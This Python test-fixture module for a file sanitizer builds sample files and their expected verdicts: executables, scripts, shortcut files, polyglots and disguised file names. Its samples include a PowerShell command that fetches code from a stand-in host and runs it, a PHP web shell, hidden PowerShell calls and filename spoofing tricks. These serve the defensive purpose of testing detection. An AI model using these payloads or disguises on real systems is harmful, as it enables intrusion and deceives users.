"""Types: what is refused whatever it is called, polyglots, disguises, and what
no sanitizer takes yet."""
import lzma
import struct
import zlib

import compoundmaker
from sample import Sample
from zipmaker import Entry, zip_file

TEXT = "入札公告\r\n本文です。\r\n".encode()
EXECUTABLE = "type.executable"
FORBIDDEN = "type.forbidden"
UNSUPPORTED = "type.unsupported"
AMBIGUOUS = "type.ambiguous"
PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(200)


def blocked(name, data, reason, note, **more):
    return Sample(name, data, verdict="blocked", reason=reason, note=note, **more)


def chunk(kind, data):
    return (struct.pack(">I", len(data)) + kind + data +
            struct.pack(">I", zlib.crc32(kind + data)))


def png():
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b""))


def gif():
    return (b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;")


def pdf():
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n"
            b"trailer<</Size 3/Root 1 0 R>>\nstartxref\n98\n%%EOF\n")


def archive(*names, **more):
    return zip_file([Entry(name, TEXT) for name in names], **more)


def utf16(text):
    return text.encode("utf-16-le")


def compound(*streams, clsid=bytes(16)):
    """A compound file with empty streams in its root."""
    def entry(name, kind, left, right, child, clsid=bytes(16)):
        raw = utf16(name)
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) + 2, kind, 1) +
                struct.pack("<III", left, right, child) + clsid +
                bytes(4 + 16) + struct.pack("<IQ", 0xFFFFFFFE, 0))
    none = 0xFFFFFFFF
    directory = entry("Root Entry", 5, none, none, 1 if streams else none, clsid)
    for i, name in enumerate(streams):
        directory += entry(name, 2, none, i + 2 if i + 1 < len(streams) else none, none)
    directory = directory.ljust(-(-len(directory) // 512) * 512, b"\0")
    sectors = len(directory) // 512
    chain = [0xFFFFFFFD] + [i + 2 for i in range(sectors - 1)] + [0xFFFFFFFE]
    fat = struct.pack(f"<{len(chain)}I", *chain).ljust(512, b"\xff")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) +
              struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6) +
              struct.pack("<IIIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0))
    return header.ljust(512, b"\xff")[:512] + fat + directory


def executables():
    yield blocked("setup.exe", PROGRAM, EXECUTABLE, "a program")
    yield blocked("報告書.pdf", PROGRAM, EXECUTABLE, "a program called a document")
    yield blocked("dos.txt", b"MZ\x90\0\x03\0\0\0" + bytes(100), EXECUTABLE, "a DOS program")
    yield blocked("linux.dat", b"\x7fELF\x02\x01\x01" + bytes(60), EXECUTABLE, "ELF")
    yield blocked("mac.dat", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(60), EXECUTABLE, "Mach-O")
    yield blocked("fat.dat", b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(60), EXECUTABLE, "Mach-O, two processors")
    yield blocked("Main.dat", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), EXECUTABLE, "a Java class")
    yield blocked("module.dat", b"\0asm\x01\0\0\0", EXECUTABLE, "WebAssembly")
    yield blocked("android.dat", b"dex\n035\0" + bytes(60), EXECUTABLE, "Dalvik")
    yield blocked("tool.zip", archive(b"META-INF/MANIFEST.MF", b"a/Main.class"), EXECUTABLE, "a Java archive")
    yield blocked("app.zip", archive(b"AndroidManifest.xml", b"classes.dex"), EXECUTABLE, "an Android program")
    yield blocked("setup.doc", compound("a", clsid=bytes.fromhex("84100c0000000000c000000000000046")),
                  EXECUTABLE, "an installer called a document")


def scripts():
    texts = {
        "shell.txt": "#!/bin/sh\nrm -rf /tmp/x\n",
        "spaced.txt": "\n\n  #!/usr/bin/env python\nimport os\n",
        "batch.txt": "@echo off\r\ndel /q %TEMP%\\*\r\n",
        "batch-rem.txt": "REM 処理\r\n" * 30 + "cd /d %~dp0\r\ncopy a.dat a.exe\r\nstart a.exe\r\n",
        "visual.txt": "Dim shell\r\nSet shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"calc\"\r\n"
                      "Set shell = Nothing\r\n",
        "visual-error.txt": "On Error Resume Next\r\nMsgBox \"a\"\r\n",
        "jscript.txt": "var s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\nvar t = 1;\r\n",
        "visual-two.txt": "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n",
        "visual-short.txt": "s = \"calc\"\r\nx = CreateObject(\"WScript.Shell\").Run(s)\r\n",
        "jscript-two.txt": "s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\n",
        "jscript-one.txt": "new ActiveXObject('WScript.Shell').Run('calc')\r\n",
        "batch-two.txt": "cmd /c copy a.dat a.exe\r\na.exe\r\n",
        "batch-one.txt": "start /b powershell -nop -c iex(a)\r\n",
        "shell-two.txt": "$c = New-Object Net.WebClient\r\n$c.DownloadString('http://e.example/a') | iex\r\n",
        "shellone.txt": "powershell -nop -w hidden -enc SQBFAFgA\r\n",
        "wsf.txt": "<job id=\"a\"><script language=\"VBScript\">MsgBox 1</script></job>",
        "wsf-xml.txt": "<?xml version=\"1.0\"?>\n<package><job/></package>",
        "sct.txt": "<?xml version=\"1.0\"?><scriptlet><registration progid=\"a\"/></scriptlet>",
        "hta.txt": "<html><head><HTA:APPLICATION ID=\"a\"></head></html>",
        "php.txt": "<?php system($_GET['c']); ?>",
        "macro.txt": "Attribute VB_Name = \"Module1\"\r\nSub a()\r\nEnd Sub\r\n",
    }
    for name, text in texts.items():
        yield blocked(name, text.encode("cp932"), EXECUTABLE, "a script called a text")
    yield blocked("wide.txt", b"\xff\xfe" + utf16("@echo off\r\ncalc\r\n"), EXECUTABLE, "a script in UTF-16")
    for note, name in (("full-width letters", "請求書.ｅｘｅ"), ("and a full-width dot", "請求書．ＥＸＥ"),
                       ("mathematical letters", "請求書.𝐞𝐱𝐞"), ("letters in circles", "請求書.ⓔⓧⓔ"),
                       ("an override of the direction", "請求書\u202excod.exe"),
                       ("a zero-width character", "請求書.e\u200bxe"), ("dots and blanks", "請求書.exe . ."),
                       ("the long s", "請求書.v\u0062\u017f"), ("a stream", "請求書.exe::$DATA")):
        yield blocked(name, TEXT, EXECUTABLE, "run by its name: " + note)
    yield blocked("run.bat", b"echo hello\r\n", EXECUTABLE, "a batch script by its name")
    yield blocked("run.cmd", TEXT, EXECUTABLE, "a batch script by its name alone")
    for extension in ("ps1", "vbs", "js", "wsf", "hta", "jar", "com", "scr", "msi", "cpl", "py", "xll"):
        yield blocked(f"text.{extension}", TEXT, EXECUTABLE, "text, but run by its name")


def endless():
    """A compound file whose directory is one cut sector that leads to itself."""
    header = bytearray(compound()[:512])
    header[48:52] = struct.pack("<I", 0)
    header[76:80] = struct.pack("<I", 0)
    data = bytes(header) + bytes(97)
    yield blocked("endless.doc", data, UNSUPPORTED, "a chain of sectors that never ends")


def prose():
    """What speaks of code, and is text."""
    texts = {
        "mail-about.txt": "情報セキュリティ担当者各位\r\nVBScript の CreateObject(\"WScript.Shell\") を使う攻撃が増えています。\r\n"
                          "不審な添付は開かないでください。\r\n",
        "settings.txt": "start = 1\r\nend = 2\r\n# see the document.\r\nname = window\r\n",
        "wide：name.txt": "全角のコロンを含む名前\r\n",
    }
    for name, text in texts.items():
        yield Sample(name, text.encode("cp932"), verdict="unchanged", note="text that speaks of code, or looks odd")


def forbidden():
    texts = {
        "url.txt": "[InternetShortcut]\r\nURL=file://e.example/a\r\n",
        "url-comment.txt": "; 注記\r\n[InternetShortcut]\r\nURL=http://e.example/\r\n",
        "scf.txt": "[Shell]\r\nCommand=2\r\nIconFile=\\\\e.example\\a.ico\r\n",
        "reg.txt": "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n",
        "inf.txt": "[Version]\r\nSignature=\"$CHICAGO$\"\r\n",
        "autorun.txt": "[autorun]\r\nopen=a.exe\r\n",
        "sylk.txt": "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n",
        "iqy.txt": "WEB\r\n1\r\nhttp://e.example/a\r\n",
        "search.txt": "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"/>",
        "pem.txt": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    }
    for name, text in texts.items():
        yield blocked(name, text.encode("cp932"), FORBIDDEN, "acts when it is opened")
    binaries = {
        "link.txt": b"L\0\0\0\x01\x14\x02\0" + bytes(80),
        "help.txt": b"ITSF\x03\0\0\0" + bytes(80),
        "flash.txt": b"FWS\x0a" + bytes(80),
        "image.txt": bytes(0x8001) + b"CD001\x01" + bytes(100),
        "disk.txt": b"vhdxfile" + bytes(80),
        "font.txt": b"\0\x01\0\0\0\x09\0\x80\0\x03\0\x10OS/2" + bytes(80),
        "font2.txt": b"OTTO\0\x09\0\x80" + bytes(80),
    }
    for name, data in binaries.items():
        yield blocked(name, data, FORBIDDEN, "acts when it is opened")
    for name in ("a.lnk", "a.url", "a.scf", "a.chm", "a.iso", "a.vhd", "a.reg", "a.inf", "a.iqy",
                 "a.slk", "a.xlam", "a.ttf", "a.theme", "a.search-ms", "a.rwz", "a.LNK",
                 "desktop.ini", "Autorun.inf", "a.lnk.", "a.lnk "):
        yield blocked(name, TEXT, FORBIDDEN, "refused by its name, text or not")
    yield from of_other_programs()
    yield blocked("a.l\u200bnk", TEXT, FORBIDDEN, "an invisible character within the extension")


def of_other_programs():
    """What is not rebuilt, with what to ask the sender for."""
    notes = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(80)
    yield blocked("notes.one", notes, "type.notebook", "OneNote")
    yield blocked("notes.txt", notes, "type.notebook", "the same under another name")
    yield blocked("text.one", TEXT, "type.notebook", "by its name alone")
    for engine, name in (("Jet", "mdb"), ("ACE", "accdb")):
        data = b"\0\x01\0\0Standard %s DB\0" % engine.encode() + bytes(80)
        yield blocked(f"tables.{name}", data, "type.database", "Access")
        yield blocked(f"{name}.txt", data, "type.database", "the same under another name")
    yield blocked("text.mdb", TEXT, "type.database", "by its name alone")
    for name in ("Props", "   114"):
        yield blocked(f"plan{len(name)}.mpp", compound(name), "type.project", "Microsoft Project")
    yield blocked("plan.doc", compound("   114"), "type.project", "the same under another name")


def polyglots():
    zipped = archive(b"a.txt")
    yield blocked("gif-pdf.gif", b"GIF89a" + pdf(), AMBIGUOUS, "libmagic sees a GIF")
    yield blocked("gif-script.gif", b"GIF89a/*" + b"a" * 20 + b"*/=1;alert(1)", AMBIGUOUS,
                  "a variable name of a script")
    yield blocked("gif-script2.gif", b"GIF89a=1;alert(1);//" + b"a" * 20, AMBIGUOUS, "and shorter")
    yield blocked("png-zip.png", png() + zipped, AMBIGUOUS, "a picture with an archive behind")
    yield blocked("png-html.png", png()[:33] + chunk(b"tEXt", b"Comment\0<script>alert(1)</script>") +
                  png()[33:], AMBIGUOUS, "a picture with a page in its comment")
    yield blocked("png-rar.png", png() + b"Rar!\x1a\x07\x01\0" + bytes(40), AMBIGUOUS, "a picture with an archive")
    yield blocked("png-pdf.png", png()[:33] + chunk(b"tEXt", b"a\0%PDF-1.4 ") + png()[33:], AMBIGUOUS,
                  "readers of PDF look into the first 1024 bytes")
    yield blocked("pdf-zip.pdf", pdf() + zipped, AMBIGUOUS, "a document with an archive behind")
    yield blocked("pdf-html.pdf", b"<html><script>alert(1)</script>\n" + pdf(), AMBIGUOUS, "a page and a document")
    yield blocked("stub-zip.zip", b"MZ" + b"a" * 70 + zipped, AMBIGUOUS, "a program's first letters and an archive")
    yield blocked("docx-odt.docx", zip_file([
        Entry(b"mimetype", b"application/vnd.oasis.opendocument.text", deflate=False),
        Entry(b"[Content_Types].xml", b"<Types/>"), Entry(b"word/document.xml", b"<a/>")]),
        AMBIGUOUS, "two sorts of document in one archive")
    yield blocked("doc-xls.doc", compound("WordDocument", "Workbook"), AMBIGUOUS, "two documents in one file")


def documents():
    for name, data, kinds in (("rtf.txt", b"{\\rtf1\\ansi a}", []), ("rtf-short.doc", b"{\\rt1\\ansi a}", []),
                              ("rtf-space.doc", b" \t\r\n{\\rtf1\\ansi a}", ["rtf.outside"])):
        yield Sample(name, data, output=name.split(".")[0] + ".rtf", removals=["type.renamed", *kinds],
                     note="RTF, of which libmagic sees text where its f is missing or blanks stand in front")


def unsupported():
    yield blocked("late.txt", "お知らせ<iframe src=x></iframe>".encode(), UNSUPPORTED, "HTML behind text")
    yield blocked("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", UNSUPPORTED, "SVG")
    yield blocked("data.xml", b"<?xml version='1.0'?><a/>", UNSUPPORTED, "XML")
    yield blocked("page.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; "
                  b"type=\"text/html\"\r\n\r\na\r\n", UNSUPPORTED, "MHTML")
    yield blocked("old.doc", compound("WordDocument", "1Table"), "malformed.truncated", "the name of Word 97 alone")
    yield blocked("old.xls", compound("Workbook"), "malformed.truncated", "the name of Excel 97 alone")
    yield blocked("old.ppt", compound("PowerPoint Document"), "malformed", "PowerPoint 97, without slides")
    yield blocked("mail.msg", compound("__properties_version1.0"), "malformed", "Outlook, without a message")
    yield blocked("一太郎.jtd", compound("DocumentText"), UNSUPPORTED, "Ichitaro")
    yield blocked("locked.docx", compound("EncryptionInfo", "EncryptedPackage"), "malformed",
                  "an encrypted document with nothing in it")
    yield blocked("locked.doc", compoundmaker.compound({"WordDocument": b"\xec\xa5" + bytes(9) + b"\x01" + bytes(4200)}),
                  "encrypted.unsupported", "encrypted, it says, but of a version before Word 97")
    yield blocked("rights.doc", compound("WordDocument", "\tDRMContent"), "encrypted.rights_managed",
                  "a document of rights management")
    yield blocked("a.odt", zip_file([
        Entry(b"mimetype", b"application/vnd.oasis.opendocument.text", deflate=False),
        Entry(b"META-INF/manifest.xml", b"<a/>"), Entry(b"content.xml", b"<a/>")]), "malformed", "the type of an odt, and nothing of one")
    yield blocked("a.epub", zip_file([Entry(b"mimetype", b"application/epub+zip", deflate=False)]), UNSUPPORTED,
                  "EPUB is no plain ZIP")
    yield blocked("a.xps", archive(b"[Content_Types].xml", b"FixedDocSeq.fdseq"), UNSUPPORTED, "XPS is no plain ZIP")
    binaries = {
        "a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40), "a.rar": b"Rar!\x1a\x07\x01\0" + bytes(40),
        "a.gz": b"\x1f\x8b\x08" + bytes(40), "a.bz2": b"BZh91AY&SY" + bytes(40),
        "a.xz": lzma.compress(TEXT), "a.lzh": b"\x20\0-lh5-" + bytes(40),
        "a.cab": b"MSCF" + bytes(60), "a.tar": b"a.txt".ljust(257, b"\0") + b"ustar\0" + b"00".ljust(249, b"\0") + bytes(1024),
        "a.xdw": bytes.fromhex("600e8201" "00800300c013830401" "0d0a01") + bytes(60),
        "a.jww": b"JwwData.\x58\x02\0\0" + bytes(60), "a.dwg": b"AC1032\0\0" + bytes(60),
        "a.psd": b"8BPS\0\x01" + bytes(60), "a.ico": b"\0\0\x01\0\x01\0\x10\x10\0\0" + bytes(60),
        "a.mp3": b"ID3\x04\0\0" + bytes(60), "a.mp4": b"\0\0\0\x18ftypmp42" + bytes(60),
        "a.wav": b"RIFF\x24\0\0\0WAVEfmt " + bytes(60), "a.avi": b"RIFF\x24\0\0\0AVI LIST" + bytes(60),
        "a.mpg": b"\0\0\x01\xba" + bytes(60), "a.ogg": b"OggS\0\x02" + bytes(60),
        "a.wmv": bytes.fromhex("3026b2758e66cf11") + bytes(60), "a.dat": b"\x78\x9f\x3e\x22" + bytes(60),
    }
    for name, data in binaries.items():
        yield blocked("kind-" + name, data, UNSUPPORTED, "known, and not taken yet")


def disguises():
    yield Sample("notes.docx", TEXT, removals=["type.renamed"], output="notes.txt",
                 note="a text called a document gets its own extension")
    yield Sample("table.xls", "番号,件名\r\n1,庁舎\r\n2,道路\r\n".encode("cp932"), removals=["type.renamed"],
                 output="table.csv", note="a table by its shape")
    yield blocked("unknown.bin", bytes((i * 73 + 19) % 256 for i in range(997)), "type.unknown", "nobody knows it")
    yield blocked("exe-in.docx", PROGRAM, EXECUTABLE, "what it is counts, not what it is called")
    yield Sample("名前\x07に\u202e制御.txt", TEXT, verdict="unchanged",
                 note="control characters in the name")


def samples():
    yield from executables()
    yield from scripts()
    yield from prose()
    yield from endless()
    yield from forbidden()
    yield from polyglots()
    yield from documents()
    yield from unsupported()
    yield from disguises()
